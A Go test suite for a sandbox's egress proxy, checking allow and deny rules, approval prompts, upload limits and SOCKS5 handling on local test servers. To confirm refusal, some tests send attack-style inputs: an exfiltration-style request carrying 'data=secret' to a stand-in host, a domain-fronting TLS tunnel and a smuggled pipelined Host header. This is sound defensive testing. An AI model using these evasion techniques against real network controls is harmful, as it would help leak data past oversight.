package netproxy

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chaperone-dev/chaperone/config"
	"github.com/chaperone-dev/chaperone/internal/egress"
	"github.com/chaperone-dev/chaperone/models"
)

// world is a proxy served on a unix socket, with the forwarder a sandbox
// would run in front of it, and local upstreams. Nothing here leaves
// 127.0.0.0/8: every name is pinned.
type world struct {
	t     *testing.T
	proxy *Proxy
	sock  string
	port  int // the forwarder's
	warn  *syncBuffer
	asks  atomic.Int32
	ask   func(Request) models.Verdict
}

type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

func newWorld(t *testing.T, n config.NetworkConfig) *world {
	t.Helper()
	pol, err := NewPolicy(n, "/project")
	if err != nil {
		t.Fatal(err)
	}
	w := &world{t: t, warn: &syncBuffer{}}
	w.proxy = &Proxy{Policy: pol, Warn: w.warn,
		Resolve: func(ctx context.Context, h string) ([]netip.Addr, error) {
			return nil, fmt.Errorf("test resolver: %s is not pinned (a test must not resolve real names)", h)
		},
		Ask: func(ctx context.Context, r Request) models.Verdict {
			w.asks.Add(1)
			if w.ask == nil {
				return models.Verdict{By: models.ByNoPanel, Reason: "no approval panel is running"}
			}
			return w.ask(r)
		},
	}
	w.sock = filepath.Join(t.TempDir(), "egress.sock")
	l, err := net.Listen("unix", w.sock)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	go serveKeyed(ctx, l, w.proxy)
	t.Cleanup(func() { cancel(); w.proxy.Close() })
	w.port, err = egress.Forward(w.sock, testKey)
	if err != nil {
		t.Fatal(err)
	}
	return w
}

// testKey is what the tests' forwarders open each connection with.
const testKey = "k3y"

// serveKeyed serves l with p as the sandbox does: each connection must
// open with the job's key (egress.Admit).
func serveKeyed(ctx context.Context, l net.Listener, p *Proxy) {
	go func() { <-ctx.Done(); l.Close() }()
	for {
		c, err := l.Accept()
		if err != nil {
			return
		}
		go func() {
			if !egress.Admit(c, testKey) {
				c.Close()
				return
			}
			p.ServeConn(ctx, c)
		}()
	}
}

// client is an HTTP client that uses the forwarder as its proxy and
// trusts roots.
func (w *world) client(roots *x509.CertPool) *http.Client {
	pu, _ := url.Parse(fmt.Sprintf("http://127.0.0.1:%d", w.port))
	return &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{
		Proxy:           http.ProxyURL(pu),
		TLSClientConfig: &tls.Config{RootCAs: roots},
	}}
}

// upstream is a local server counting its requests.
type upstream struct {
	*httptest.Server
	hits atomic.Int32
	body atomic.Int64
}

func newUpstream(t *testing.T, tlsOn bool) *upstream {
	u := &upstream{}
	h := http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		u.hits.Add(1)
		n, _ := io.Copy(io.Discard, r.Body)
		u.body.Add(n)
		fmt.Fprintf(rw, "hello from %s, got %d bytes", r.Host, n)
	})
	if tlsOn {
		u.Server = httptest.NewTLSServer(h)
	} else {
		u.Server = httptest.NewServer(h)
	}
	t.Cleanup(u.Close)
	return u
}

func (u *upstream) addr() string { return u.Listener.Addr().String() }

func roots(u *upstream) *x509.CertPool {
	p := x509.NewCertPool()
	p.AddCert(u.Certificate())
	return p
}

func TestProxyAllowedNameArrives(t *testing.T) {
	t.Parallel()
	plain, secure := newUpstream(t, false), newUpstream(t, true)
	w := newWorld(t, config.NetworkConfig{
		Allow: []string{"plain.test", "example.com"},
		// example.com is the name in httptest's certificate.
		Hosts: map[string]string{"plain.test": plain.addr(), "example.com": secure.addr()},
	})
	c := w.client(roots(secure))
	for _, u := range []string{"http://plain.test/x", "https://example.com/y"} {
		resp, err := c.Get(u)
		if err != nil {
			t.Fatalf("GET %s: %v", u, err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 200 || !strings.HasPrefix(string(b), "hello from ") {
			t.Fatalf("GET %s: %d %q", u, resp.StatusCode, b)
		}
	}
	w.proxy.Close()
	conns := w.proxy.Connections()
	if len(conns) != 2 {
		t.Fatalf("recorded %d connections, want 2: %+v", len(conns), conns)
	}
	if c := conns[0]; c.Host != "plain.test" || c.Port != 80 || c.Method != "GET" || !c.Allowed || c.By != models.ByList || c.Up == 0 || c.Down == 0 {
		t.Errorf("plain record: %+v", c)
	}
	if c := conns[1]; c.Host != "example.com" || c.Port != 443 || c.Method != "CONNECT" || !c.Allowed || c.Up == 0 || c.Down == 0 {
		t.Errorf("tunnel record: %+v", c)
	}
	if w.asks.Load() != 0 || w.warn.String() != "" {
		t.Errorf("an allowed host asked (%d) or warned (%q)", w.asks.Load(), w.warn.String())
	}
}

func TestProxyUnknownHostRefusedWithoutPanel(t *testing.T) {
	t.Parallel()
	up := newUpstream(t, true)
	w := newWorld(t, config.NetworkConfig{Hosts: map[string]string{"exfil.test": up.addr()}})
	resp, err := w.client(roots(up)).Get("http://exfil.test/?data=secret")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden || !strings.Contains(string(b), "exfil.test refused") {
		t.Errorf("unknown host: %d %q, want 403 naming the host", resp.StatusCode, b)
	}
	if _, err := w.client(roots(up)).Get("https://exfil.test/"); err == nil {
		t.Error("a CONNECT to an unknown host went through")
	}
	if up.hits.Load() != 0 {
		t.Errorf("the unknown host got %d requests", up.hits.Load())
	}
	if got := w.warn.String(); strings.Count(got, "\n") != 1 || !strings.HasPrefix(got, "chaperone: network: exfil.test refused: ") {
		t.Errorf("stderr got %q, want one line for the host", got)
	}
	for _, c := range w.proxy.Connections() {
		if c.Allowed || c.By != models.ByNoPanel || c.Reason == "" {
			t.Errorf("record %+v, want refused by no-panel with a reason", c)
		}
	}
}

func TestProxyPersonAnswersOncePerHost(t *testing.T) {
	t.Parallel()
	up := newUpstream(t, false)
	w := newWorld(t, config.NetworkConfig{Hosts: map[string]string{"new.test": up.addr(), "no.test": up.addr()}})
	// The person answers "no" only once "new.test" was asked too (after a
	// "no", the command's new questions are refused unasked); the others
	// queue behind the questions meanwhile.
	newAsked := make(chan struct{})
	var once sync.Once
	w.ask = func(r Request) models.Verdict {
		if r.Host == "new.test" {
			once.Do(func() { close(newAsked) })
		} else {
			<-newAsked
		}
		time.Sleep(50 * time.Millisecond)
		return models.Verdict{Approved: r.Host == "new.test", By: models.ByPerson}
	}
	c := w.client(nil)
	var wg sync.WaitGroup
	var ok, refused atomic.Int32
	for i := 0; i < 6; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			host := []string{"new.test", "no.test"}[i%2]
			resp, err := c.Get("http://" + host + "/")
			if err != nil {
				t.Error(err)
				return
			}
			resp.Body.Close()
			if resp.StatusCode == 200 {
				ok.Add(1)
			} else {
				refused.Add(1)
			}
		}(i)
	}
	wg.Wait()
	w.proxy.Close()
	if ok.Load() != 3 || refused.Load() != 3 {
		t.Errorf("%d through, %d refused; want 3 and 3", ok.Load(), refused.Load())
	}
	if w.asks.Load() != 2 {
		t.Errorf("asked %d times, want once per host", w.asks.Load())
	}
	if up.hits.Load() != 3 {
		t.Errorf("upstream saw %d requests, want 3", up.hits.Load())
	}
	for _, r := range w.proxy.Connections() {
		if r.Allowed != (r.Host == "new.test") || r.By != models.ByPerson {
			t.Errorf("record %+v", r)
		}
	}
}

func TestProxyNameLeadingHomeRefused(t *testing.T) {
	t.Parallel()
	up := newUpstream(t, false)
	w := newWorld(t, config.NetworkConfig{Allow: []string{"allowed.test", "10.9.9.9"}})
	// An allowed name whose DNS answer is this machine, or its network.
	w.proxy.Resolve = func(ctx context.Context, h string) ([]netip.Addr, error) {
		return []netip.Addr{netip.MustParseAddrPort(up.addr()).Addr()}, nil
	}
	resp, err := w.client(nil).Get("http://allowed.test:" + fmt.Sprint(netip.MustParseAddrPort(up.addr()).Port()) + "/")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode == 200 || up.hits.Load() != 0 || !strings.Contains(string(b), "an address of this machine") {
		t.Errorf("an allowed name leading to loopback: %d %q, %d hits", resp.StatusCode, b, up.hits.Load())
	}
	// An IP literal of the host: refused without asking.
	resp, err = w.client(nil).Get("http://" + up.addr() + "/")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden || up.hits.Load() != 0 || w.asks.Load() != 0 {
		t.Errorf("127.0.0.1 literal: %d, %d hits, %d asks", resp.StatusCode, up.hits.Load(), w.asks.Load())
	}
}

func TestProxyDenyBeatsAllow(t *testing.T) {
	t.Parallel()
	up := newUpstream(t, false)
	w := newWorld(t, config.NetworkConfig{Allow: []string{"*.corp.test"}, Deny: []string{"paste.corp.test"},
		Hosts: map[string]string{"paste.corp.test": up.addr(), "git.corp.test": up.addr()}})
	w.ask = func(Request) models.Verdict { return models.Verdict{Approved: true, By: models.ByPerson} }
	for host, want := range map[string]int{"paste.corp.test": 403, "git.corp.test": 200} {
		resp, err := w.client(nil).Get("http://" + host + "/")
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != want {
			t.Errorf("%s: %d, want %d", host, resp.StatusCode, want)
		}
	}
	if w.asks.Load() != 0 {
		t.Error("a denied host was asked about (deny must refuse without asking)")
	}
}

func TestProxyUploadHeld(t *testing.T) {
	t.Parallel()
	up := newUpstream(t, true)
	w := newWorld(t, config.NetworkConfig{Allow: []string{"example.com"}, Hosts: map[string]string{"example.com": up.addr()},
		UploadLimit: config.Size{Bytes: 16 << 10, Set: true}})
	var held []Request
	var mu sync.Mutex
	w.ask = func(r Request) models.Verdict {
		mu.Lock()
		held = append(held, r)
		mu.Unlock()
		return models.Verdict{By: models.ByPerson}
	}
	c := w.client(roots(up))
	// A small post passes without a question.
	resp, err := c.Post("https://example.com/small", "text/plain", strings.NewReader("ok"))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if w.asks.Load() != 0 {
		t.Fatal("a small upload was held")
	}
	// A large one is stopped at the limit.
	big := bytes.Repeat([]byte("s3cr3t"), 20<<10)
	if resp, err := c.Post("https://example.com/big", "application/octet-stream", bytes.NewReader(big)); err == nil {
		resp.Body.Close()
		if resp.StatusCode == 200 {
			t.Error("a 120 KiB upload went through")
		}
	}
	w.proxy.Close()
	mu.Lock()
	defer mu.Unlock()
	if len(held) != 1 || held[0].Upload <= 16<<10 || held[0].Host != "example.com" {
		t.Errorf("held %+v, want one upload question past 16 KiB", held)
	}
	if got := up.body.Load(); got >= int64(len(big)) {
		t.Errorf("the host received %d bytes of a refused upload", got)
	}
	var sawHeld bool
	for _, r := range w.proxy.Connections() {
		sawHeld = sawHeld || (r.Held && !r.Allowed && r.Up <= 16<<10+4096)
	}
	if !sawHeld {
		t.Errorf("no record of the held upload: %+v", w.proxy.Connections())
	}
}

func TestProxyUploadToRegistryNotHeld(t *testing.T) {
	t.Parallel()
	up := newUpstream(t, false)
	w := newWorld(t, config.NetworkConfig{Hosts: map[string]string{"registry.npmjs.org": up.addr()},
		UploadLimit: config.Size{Bytes: 1024, Set: true}})
	resp, err := w.client(nil).Post("http://registry.npmjs.org/-/npm/v1/security/audits", "application/json", bytes.NewReader(make([]byte, 8192)))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 || w.asks.Load() != 0 {
		t.Errorf("a registry upload: %d, %d questions", resp.StatusCode, w.asks.Load())
	}
}

func TestProxySessionUploadsCount(t *testing.T) {
	t.Parallel()
	up := newUpstream(t, false)
	w := newWorld(t, config.NetworkConfig{Allow: []string{"api.test"}, Hosts: map[string]string{"api.test": up.addr()},
		UploadLimit: config.Size{Bytes: 4096, Set: true}})
	// Earlier commands of the session sent 4000 bytes: a 200-byte post
	// now passes the limit (an upload split across commands).
	w.proxy.Uploaded = func(h string) (int64, bool) { return 4000, false }
	resp, err := w.client(nil).Post("http://api.test/", "text/plain", bytes.NewReader(make([]byte, 200)))
	if err == nil {
		resp.Body.Close()
	}
	if w.asks.Load() != 1 {
		t.Errorf("asked %d times, want 1", w.asks.Load())
	}
}

func TestProxySOCKS5(t *testing.T) {
	t.Parallel()
	up := newUpstream(t, false)
	w := newWorld(t, config.NetworkConfig{Allow: []string{"socks.test"}, Hosts: map[string]string{"socks.test": up.addr(), "other.test": up.addr()}})
	get := func(host string) (code byte, body string) {
		c, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", w.port))
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(5 * time.Second))
		c.Write([]byte{5, 1, 0})
		var hello [2]byte
		io.ReadFull(c, hello[:])
		req := append([]byte{5, 1, 0, 3, byte(len(host))}, host...)
		req = binary.BigEndian.AppendUint16(req, 80)
		c.Write(req)
		var rep [10]byte
		if _, err := io.ReadFull(c, rep[:]); err != nil {
			t.Fatal(err)
		}
		if rep[1] != 0 {
			return rep[1], ""
		}
		fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", host)
		b, _ := io.ReadAll(bufio.NewReader(c))
		return 0, string(b)
	}
	if code, body := get("socks.test"); code != 0 || !strings.Contains(body, "hello from socks.test") {
		t.Errorf("allowed over SOCKS5: code %d, %q", code, body)
	}
	if code, _ := get("other.test"); code != socksForbidden {
		t.Errorf("unknown over SOCKS5: code %d, want %d (not allowed by ruleset)", code, socksForbidden)
	}
	if up.hits.Load() != 1 {
		t.Errorf("upstream hits %d, want 1", up.hits.Load())
	}
}

func TestForwardProxyGone(t *testing.T) {
	t.Parallel()
	port, err := egress.Forward(filepath.Join(t.TempDir(), "nothing.sock"), testKey)
	if err != nil {
		t.Fatal(err)
	}
	pu, _ := url.Parse(fmt.Sprintf("http://127.0.0.1:%d", port))
	c := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{Proxy: http.ProxyURL(pu)}}
	resp, err := c.Get("http://registry.npmjs.org/")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadGateway || !strings.Contains(string(b), "egress proxy is not running") {
		t.Errorf("proxy gone: %d %q", resp.StatusCode, b)
	}
}

func TestProxyGarbage(t *testing.T) {
	t.Parallel()
	w := newWorld(t, config.NetworkConfig{})
	for _, in := range []string{
		"GET /relative HTTP/1.1\r\nHost: x\r\n\r\n",
		"CONNECT nohostport HTTP/1.1\r\n\r\n",
		"CONNECT 127.0.0.1:22 HTTP/1.1\r\n\r\n",
		"GET https://registry.npmjs.org/ HTTP/1.1\r\n\r\n",
		"\x05\x01\x02", // SOCKS5 with only user/password
		"\x05\x01\x00\x05\x02\x00\x01\x7f\x00\x00\x01\x00\x16", // SOCKS5 BIND
		"not http at all\r\n\r\n",
	} {
		c, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", w.port))
		if err != nil {
			t.Fatal(err)
		}
		c.SetDeadline(time.Now().Add(5 * time.Second))
		io.WriteString(c, in)
		b, _ := io.ReadAll(c)
		c.Close()
		// SOCKS5: the greeting's answer (5 0) is followed by the request's,
		// whose code must not be 0 (granted).
		if bytes.HasPrefix(b, []byte("HTTP/1.1 200")) || (len(b) >= 4 && b[0] == 5 && b[2] == 5 && b[3] == 0) {
			t.Errorf("%q got a success: %q", in, b)
		}
	}
	for _, r := range w.proxy.Connections() {
		if r.Allowed {
			t.Errorf("garbage made an allowed connection: %+v", r)
		}
	}
}

func TestProxyDomainFrontingRefused(t *testing.T) {
	t.Parallel()
	up := newUpstream(t, true)
	w := newWorld(t, config.NetworkConfig{Allow: []string{"example.com"}, Hosts: map[string]string{"example.com": up.addr()}})
	pu, _ := url.Parse(fmt.Sprintf("http://127.0.0.1:%d", w.port))
	// A tunnel allowed for example.com whose TLS asks for another server.
	c := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{Proxy: http.ProxyURL(pu),
		TLSClientConfig: &tls.Config{ServerName: "forbidden.test", InsecureSkipVerify: true}}}
	if resp, err := c.Get("https://example.com/"); err == nil {
		resp.Body.Close()
		t.Fatal("a tunnel whose TLS names another server went through")
	}
	w.proxy.Close()
	if up.hits.Load() != 0 {
		t.Errorf("the server got %d requests", up.hits.Load())
	}
	var refused bool
	for _, r := range w.proxy.Connections() {
		refused = refused || (!r.Allowed && strings.Contains(r.Reason, "domain fronting"))
	}
	if !refused || !strings.Contains(w.warn.String(), "forbidden.test") {
		t.Errorf("no refusal recorded: %+v, stderr %q", w.proxy.Connections(), w.warn.String())
	}
	// The right name still works.
	w2 := newWorld(t, config.NetworkConfig{Allow: []string{"example.com"}, Hosts: map[string]string{"example.com": up.addr()}})
	resp, err := w2.client(roots(up)).Get("https://example.com/")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
}

func TestProxyHostHeaderIsTheURLs(t *testing.T) {
	t.Parallel()
	var got atomic.Value
	up := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) { got.Store(r.Host) }))
	defer up.Close()
	w := newWorld(t, config.NetworkConfig{Allow: []string{"allowed.test"}, Hosts: map[string]string{"allowed.test": up.Listener.Addr().String()}})
	c, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", w.port))
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second))
	io.WriteString(c, "GET http://allowed.test/ HTTP/1.1\r\nHost: other.test\r\n\r\n"+
		"GET http://other.test/ HTTP/1.1\r\nHost: other.test\r\n\r\n") // a second, pipelined request
	b, _ := io.ReadAll(c)
	if h, _ := got.Load().(string); h != "allowed.test" {
		t.Errorf("the server saw Host %q, want the URL's allowed.test", h)
	}
	if n := strings.Count(string(b), "HTTP/1.1 "); n != 1 {
		t.Errorf("%d answers to a pipelined pair, want the first only: %q", n, b)
	}
}

func TestProxyServerSpeaksFirst(t *testing.T) {
	t.Parallel()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	go func() {
		c, err := l.Accept()
		if err != nil {
			return
		}
		defer c.Close()
		io.WriteString(c, "SSH-2.0-test\r\n")
		line, _ := bufio.NewReader(c).ReadString('\n')
		io.WriteString(c, "echo "+line)
	}()
	w := newWorld(t, config.NetworkConfig{Allow: []string{"git.test:22"}, Hosts: map[string]string{"git.test": l.Addr().String()}})
	c, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", w.port))
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second))
	io.WriteString(c, "CONNECT git.test:22 HTTP/1.1\r\nHost: git.test:22\r\n\r\n")
	br := bufio.NewReader(c)
	status, _ := br.ReadString('\n')
	for l, _ := br.ReadString('\n'); l != "\r\n" && l != ""; l, _ = br.ReadString('\n') {
	}
	greeting, _ := br.ReadString('\n')
	io.WriteString(c, "SSH-2.0-client\r\n")
	echo, _ := br.ReadString('\n')
	if !strings.HasPrefix(status, "HTTP/1.1 200") || greeting != "SSH-2.0-test\r\n" || echo != "echo SSH-2.0-client\r\n" {
		t.Errorf("server-first tunnel: %q %q %q", status, greeting, echo)
	}
}

func TestProxyQuestionFloodCapped(t *testing.T) {
	t.Parallel()
	up := newUpstream(t, false)
	hosts := map[string]string{}
	for i := 0; i < 20; i++ {
		hosts[fmt.Sprintf("h%d.test", i)] = up.addr()
	}
	w := newWorld(t, config.NetworkConfig{Hosts: hosts})
	w.ask = func(Request) models.Verdict { return models.Verdict{Approved: true, By: models.ByPerson} }
	for i := 0; i < 20; i++ {
		resp, err := w.client(nil).Get(fmt.Sprintf("http://h%d.test/", i))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
	}
	if got := w.asks.Load(); got != MaxQuestions {
		t.Errorf("asked %d times, want at most %d", got, MaxQuestions)
	}
	if got := up.hits.Load(); got != MaxQuestions {
		t.Errorf("%d requests through, want the %d approved", got, MaxQuestions)
	}
}

func TestProxyNoMoreQuestionsAfterANo(t *testing.T) {
	t.Parallel()
	up := newUpstream(t, false)
	w := newWorld(t, config.NetworkConfig{Hosts: map[string]string{"a.test": up.addr(), "b.test": up.addr()}})
	w.ask = func(r Request) models.Verdict {
		return models.Verdict{Approved: r.Host != "a.test", By: models.ByPerson}
	}
	for _, h := range []string{"a.test", "b.test"} {
		resp, err := w.client(nil).Get("http://" + h + "/")
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
	}
	if w.asks.Load() != 1 || up.hits.Load() != 0 {
		t.Errorf("after a person's no: %d questions, %d requests through; want 1 and 0", w.asks.Load(), up.hits.Load())
	}
}

// A question still open when the command ends (Close) is given up: the
// handler returns, and Close does not wait for the hold timeout.
func TestProxyCloseEndsQuestionsAndSilentHosts(t *testing.T) {
	t.Parallel()
	silent, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer silent.Close()
	go func() {
		for {
			c, err := silent.Accept()
			if err != nil {
				return
			}
			defer c.Close() // accepts, never answers
		}
	}()
	w := newWorld(t, config.NetworkConfig{Allow: []string{"silent.test"}, Hosts: map[string]string{"silent.test": silent.Addr().String(), "ask.test": silent.Addr().String()}})
	asked := make(chan struct{})
	w.proxy.Ask = func(ctx context.Context, r Request) models.Verdict {
		close(asked)
		<-ctx.Done() // a panel that never answers
		return models.Verdict{By: models.ByTimeout}
	}
	c := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(&url.URL{Scheme: "http", Host: fmt.Sprintf("127.0.0.1:%d", w.port)})}}
	go c.Get("http://silent.test/")
	go c.Get("http://ask.test/")
	<-asked
	time.Sleep(100 * time.Millisecond) // both are in flight
	done := make(chan struct{})
	go func() { w.proxy.Close(); close(done) }()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("Close waited on a silent host or an open question")
	}
}

func TestProxyUploadCountedPerPattern(t *testing.T) {
	t.Parallel()
	up := newUpstream(t, false)
	hosts := map[string]string{"registry.npmjs.org": up.addr()}
	for i := 0; i < 6; i++ {
		hosts[fmt.Sprintf("n%d.corp.test", i)] = up.addr()
	}
	w := newWorld(t, config.NetworkConfig{Allow: []string{"*.corp.test"}, Hosts: hosts, UploadLimit: config.Size{Bytes: 4096, Set: true}})
	// 6 names of one pattern, 3000 bytes each: held once past 4 KiB.
	for i := 0; i < 6; i++ {
		if resp, err := w.client(nil).Post(fmt.Sprintf("http://n%d.corp.test/", i), "text/plain", bytes.NewReader(make([]byte, 3000))); err == nil {
			resp.Body.Close()
		}
	}
	if w.asks.Load() == 0 || up.body.Load() > 4096+3000 {
		t.Errorf("split upload: %d questions, %d bytes arrived; want a question and at most one post past the limit", w.asks.Load(), up.body.Load())
	}
	// A registry gets 16 times the limit, not more.
	w2 := newWorld(t, config.NetworkConfig{Hosts: hosts, UploadLimit: config.Size{Bytes: 4096, Set: true}})
	if resp, err := w2.client(nil).Post("http://registry.npmjs.org/-/v1/publish", "application/octet-stream", bytes.NewReader(make([]byte, 200<<10))); err == nil {
		resp.Body.Close()
	}
	if w2.asks.Load() != 1 {
		t.Errorf("a 200 KiB upload to a registry with a 4 KiB limit: %d questions, want 1", w2.asks.Load())
	}
}
